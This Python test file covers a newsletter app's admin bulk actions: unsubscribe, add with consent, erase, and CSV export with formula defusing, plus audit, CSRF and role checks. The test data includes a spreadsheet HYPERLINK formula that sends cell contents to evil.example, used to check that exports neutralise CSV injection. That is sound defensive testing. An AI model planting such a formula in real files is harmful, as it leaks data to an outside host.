"""Bulk actions on the subscribers page, through HTTP on both databases: leave a list, join a
list (the admin-add rule: suppression refuses, double opt-in mails a confirm link and no
campaign reaches them before the click), erase after a confirmation showing the count, export
the chosen as CSV with formulas defused; one transaction, audited, CSRF and roles checked.
Also a segment exported as CSV."""

from __future__ import annotations

import csv
import io
import re

import pytest
from campaign_support import drain, make_list
from sqlalchemy import func, select

from newsletter.extensions import db
from newsletter.models import (
    AuditEvent,
    ConsentEvent,
    OutboundMail,
    Role,
    Subscriber,
    SubscriberStatus,
    Subscription,
    SubscriptionStatus,
    Suppression,
    SuppressionReason,
    utcnow,
)
from newsletter.sending import campaigns
from newsletter.spreadsheet import FORMULA_START
from newsletter.subscribers import bulk, segments, suppression

from conftest import csrf_token

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def people(app):
    """news: ada, bob, cy (confirmed), dee (confirmed, suppressed); other: empty list."""
    with app.app_context():
        news, other = make_list(db.session, "news"), make_list(db.session, "other",
                                                               name="Other News")
        ids = {}
        for name in ("ada", "bob", "cy", "dee"):
            person = Subscriber(email=f"{name}@example.org", name=HOSTILE if name == "bob" else
                                name.title(), status=SubscriberStatus.active,
                                attributes={"plan": "-1+1" if name == "cy" else "pro"})
            person.subscriptions.append(Subscription(
                mailing_list=news, status=SubscriptionStatus.confirmed, confirmed_at=utcnow()))
            db.session.add(person)
            db.session.flush()
            ids[name] = person.id
        suppression.suppress(db.session, app.config["NEWSLETTER_SUPPRESSION_KEY"],
                             "dee@example.org", SuppressionReason.manual, utcnow())
        db.session.commit()
        return {"news": news.id, "other": other.id, **ids}


def _bulk(client, data: dict, token: str | None = None):
    token = token or csrf_token(client, "/admin/subscribers")
    return client.post("/admin/subscribers/bulk", data={"csrf_token": token, **data})


def _audit(app, action: str) -> list[AuditEvent]:
    with app.app_context():
        return list(db.session.scalars(select(AuditEvent).where(AuditEvent.action == action)
                                       .order_by(AuditEvent.id)))


def _hash(app, email: str) -> str:
    return suppression.email_hash(app.config["NEWSLETTER_SUPPRESSION_KEY"], email)[:16]


def _send_campaign(app, list_id: int) -> int:
    """Send a campaign to the list now; how many copies went out."""
    with app.app_context():
        campaign = campaigns.create(db.session, subject="Issue", body="Hello", list_ids=[list_id],
                                    now=utcnow())
        campaigns.send_now(campaign, utcnow())
        db.session.commit()
        campaigns.dispatch_due_campaigns(db.session, app.config["NEWSLETTER_SUPPRESSION_KEY"],
                                         utcnow())
        db.session.remove()
    return drain(app)


def test_ticked_people_leave_a_list_with_consent_and_audit_rows(app, admin_client, people):
    response = _bulk(admin_client, {"action": "unsubscribe", "target_list_id": people["news"],
                                    "ids": [people["ada"], people["bob"]]})
    assert response.status_code == 303
    page = admin_client.get(response.headers["Location"]).get_data(as_text=True)
    assert "2 of 2 subscriber(s) unsubscribed from Weekly News." in page
    with app.app_context():
        states = dict(db.session.execute(select(Subscriber.email, Subscription.status)
                                         .join(Subscription)).all())
        assert states == {"ada@example.org": SubscriptionStatus.unsubscribed,
                          "bob@example.org": SubscriptionStatus.unsubscribed,
                          "cy@example.org": SubscriptionStatus.confirmed,
                          "dee@example.org": SubscriptionStatus.confirmed}
        withdrawn = db.session.scalars(select(ConsentEvent.subscriber_id).where(
            ConsentEvent.granted.is_(False))).all()
        assert sorted(withdrawn) == [people["ada"], people["bob"]]
    per_person = _audit(app, "subscriber.unsubscribe")
    assert sorted(int(row.subject_id) for row in per_person) == [people["ada"], people["bob"]]
    [summary] = _audit(app, "subscribers.bulk_unsubscribe")
    assert summary.actor == "admin:admin@example.org"
    assert summary.detail["subjects"] == [_hash(app, "ada@example.org"),
                                          _hash(app, "bob@example.org")]
    assert "example.org" not in str(summary.detail)  # hashes, never addresses
    assert _send_campaign(app, people["news"]) == 1  # cy only (dee is suppressed)


def test_adding_asks_for_consent_and_respects_the_suppression_list(app, admin_client, people,
                                                                   smtp):
    response = _bulk(admin_client, {"action": "add", "target_list_id": people["other"],
                                    "consent_basis": "double-opt-in",
                                    "ids": [people["ada"], people["bob"], people["dee"]]})
    assert response.status_code == 303
    page = admin_client.get(response.headers["Location"]).get_data(as_text=True)
    assert "2 of 3 subscriber(s) added to Other News." in page
    assert "2 confirmation mail(s) sent" in page and "1 left as they were" in page
    assert sorted(m.rcpt_tos[0] for m in smtp.messages) == ["ada@example.org", "bob@example.org"]
    with app.app_context():
        on_other = dict(db.session.execute(
            select(Subscriber.email, Subscription.status).join(Subscription)
            .where(Subscription.list_id == people["other"])).all())
        assert on_other == {"ada@example.org": SubscriptionStatus.pending,
                            "bob@example.org": SubscriptionStatus.pending}  # not dee
    assert len(_audit(app, "subscriber.add")) == 2
    [summary] = _audit(app, "subscribers.bulk_add")
    assert summary.detail["chosen"] == 3 and summary.detail["changed"] == 2
    assert summary.detail["consent_basis"] == "double-opt-in"
    smtp.clear()
    assert _send_campaign(app, people["other"]) == 0  # nobody has confirmed yet
    assert smtp.messages == []


def test_adding_with_existing_consent_confirms_them(app, admin_client, people, smtp):
    _bulk(admin_client, {"action": "add", "target_list_id": people["other"],
                         "consent_basis": "existing", "ids": [people["cy"]]})
    smtp.clear()
    assert _send_campaign(app, people["other"]) == 1
    assert [m.rcpt_tos for m in smtp.messages] == [["cy@example.org"]]


def test_select_all_matching_exports_every_match_with_formulas_defused(app, admin_client, people):
    with app.app_context():
        news = db.session.get(campaigns.MailingList, people["news"])
        for n in range(55):  # more than one page of 50
            person = Subscriber(email=f"many{n:02}@example.net", status=SubscriberStatus.active)
            person.subscriptions.append(Subscription(mailing_list=news,
                                                     status=SubscriptionStatus.pending))
            db.session.add(person)
        db.session.commit()
    page = admin_client.get("/admin/subscribers?q=example.net").get_data(as_text=True)
    assert "Select all 55 matching the current filter" in page
    assert page.count('name="ids"') == 50
    response = _bulk(admin_client, {"action": "export", "all_matching": "1", "q": "example.net",
                                    "ids": [people["ada"]]})  # a ticked row outside the filter
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == 55 and {r["email"] for r in rows} == {
        f"many{n:02}@example.net" for n in range(55)}
    assert rows[0]["lists"] == "news:pending"
    [summary] = _audit(app, "subscribers.bulk_export")
    assert len(summary.detail["subjects"]) == 55

    response = _bulk(admin_client, {"action": "export", "ids": [people["bob"], people["cy"]]})
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [r["email"] for r in rows] == ["bob@example.org", "cy@example.org"]
    for row in rows:
        assert not any(value.startswith(FORMULA_START) for value in row.values()), row
    assert rows[0]["name"] == "'" + HOSTILE and rows[1]["plan"] == "'-1+1"


def test_delete_shows_the_count_first_then_erases_without_mail(app, admin_client, people,
                                                               monkeypatch):
    monkeypatch.setitem(bulk.MAX_CHOSEN, "delete", 1)  # over the ceiling: not even asked
    refused = _bulk(admin_client, {"action": "delete", "ids": [people["ada"], people["bob"]]})
    assert refused.status_code == 303 and "at most 1 at once" in admin_client.get(
        refused.headers["Location"]).get_data(as_text=True)
    monkeypatch.setitem(bulk.MAX_CHOSEN, "delete", 2)
    response = _bulk(admin_client, {"action": "delete", "ids": [people["ada"], people["bob"]]})
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert '<strong id="delete-count">2</strong>' in page
    with app.app_context():  # nothing happened yet
        assert db.session.scalar(select(func.count()).where(
            Subscriber.status == SubscriberStatus.erased)) == 0
    chosen = re.search(r'name="chosen" value="([^"]+)"', page).group(1)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    # The box not ticked: asked again, still nothing erased.
    again = _bulk(admin_client, {"action": "delete", "chosen": chosen}, token)
    assert '<strong id="delete-count">2</strong>' in again.get_data(as_text=True)
    done = _bulk(admin_client, {"action": "delete", "chosen": chosen, "confirm": "erase"}, token)
    assert done.status_code == 303
    assert "2 of 2 subscriber(s) erased." in admin_client.get(done.headers["Location"]).get_data(
        as_text=True)
    with app.app_context():
        erased = db.session.scalars(select(Subscriber.id).where(
            Subscriber.status == SubscriberStatus.erased)).all()
        assert sorted(erased) == [people["ada"], people["bob"]]
        assert db.session.scalar(select(func.count()).where(
            Subscriber.email.in_(["ada@example.org", "bob@example.org"]))) == 0
        reasons = db.session.scalars(select(Suppression.reason)).all()
        assert sorted(r.value for r in reasons) == ["erasure", "erasure", "manual"]
        assert db.session.scalar(select(func.count(OutboundMail.id))) == 0  # nobody is mailed
    assert len(_audit(app, "privacy.erase")) == 2
    [summary] = _audit(app, "subscribers.bulk_delete")
    assert summary.detail["subjects"] == [_hash(app, "ada@example.org"),
                                          _hash(app, "bob@example.org")]


def test_roles_csrf_and_the_ceiling(app, client, auth, people, monkeypatch):
    auth.create(email="m@example.org", role=Role.marketer)
    auth.create(email="p@example.org", role=Role.privacy)
    auth.login(email="m@example.org")
    token = csrf_token(client, "/admin/subscribers")
    assert _bulk(client, {"action": "delete", "ids": [people["ada"]]}, token).status_code == 403
    assert "Delete (erase their data)" not in client.get("/admin/subscribers").get_data(
        as_text=True)
    # No CSRF token: refused before anything happens.
    response = client.post("/admin/subscribers/bulk", data={
        "action": "unsubscribe", "target_list_id": people["news"], "ids": [people["ada"]]})
    assert response.status_code == 400
    # More than the ceiling: refused with the count, nobody changed.
    monkeypatch.setitem(bulk.MAX_CHOSEN, "unsubscribe", 2)
    response = _bulk(client, {"action": "unsubscribe", "target_list_id": people["news"],
                              "all_matching": "1"}, token)
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "4 subscribers chosen; at most 2 at once for this action" in page
    with app.app_context():
        assert db.session.scalar(select(func.count()).where(
            Subscription.status == SubscriptionStatus.unsubscribed)) == 0
        assert db.session.scalar(select(func.count(ConsentEvent.id))) == 0
    auth.logout()
    auth.login(email="p@example.org")
    token = csrf_token(client, "/admin/subscribers")
    assert _bulk(client, {"action": "unsubscribe", "target_list_id": people["news"],
                          "ids": [people["ada"]]}, token).status_code == 403


def test_a_segment_exports_as_csv(app, admin_client, people):
    with app.app_context():
        news = db.session.get(campaigns.MailingList, people["news"])
        segment = segments.create(db.session, "pros", news,
                                  [segments.parse_filter("attributes.plan=pro")], actor="t",
                                  now=utcnow())
        db.session.commit()
        segment_id = segment.id
    assert f"/admin/segments/{segment_id}/export.csv" in admin_client.get(
        "/admin/segments").get_data(as_text=True)
    response = admin_client.get(f"/admin/segments/{segment_id}/export.csv")
    assert response.status_code == 200 and "pros-segment.csv" in response.headers[
        "Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [r["email"] for r in rows] == ["ada@example.org", "bob@example.org", "dee@example.org"]
    assert rows[1]["name"] == "'" + HOSTILE
    [event] = _audit(app, "subscribers.export")
    assert (event.subject_type, event.subject_id) == ("segment", str(segment_id))


def test_an_address_that_no_longer_passes_adds_nobody_and_says_whose(app, admin_client, people,
                                                                      smtp):
    with app.app_context():
        old = Subscriber(email="old row@example.org", status=SubscriberStatus.active)
        db.session.add(old)
        db.session.commit()
        old_id = old.id
    response = _bulk(admin_client, {"action": "add", "target_list_id": people["other"],
                                    "consent_basis": "double-opt-in",
                                    "ids": [people["ada"], old_id]})
    page = admin_client.get(response.headers["Location"]).get_data(as_text=True)
    assert "old row@example.org:" in page and "Nobody was added." in page
    with app.app_context():
        assert db.session.scalar(select(func.count()).where(
            Subscription.list_id == people["other"])) == 0
        assert _audit(app, "subscribers.bulk_add") == []
    assert smtp.messages == []


def test_cli_exports_a_segment(app, runner, people, tmp_path):
    with app.app_context():
        segments.create(db.session, "pros", db.session.get(campaigns.MailingList, people["news"]),
                        [segments.parse_filter("attributes.plan=pro")], actor="t", now=utcnow())
        db.session.commit()
    out = tmp_path / "pros.csv"
    result = runner.invoke(args=["newsletter", "export", "--segment", "pros", "--output", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [r["email"] for r in rows] == ["ada@example.org", "bob@example.org", "dee@example.org"]
    assert rows[1]["name"] == "'" + HOSTILE
    for wrong in (["--segment", "nope"], ["--list", "news", "--segment", "pros"], []):
        bad = runner.invoke(args=["newsletter", "export", *wrong])
        assert bad.exit_code != 0 and bad.output.strip().startswith("Error:")
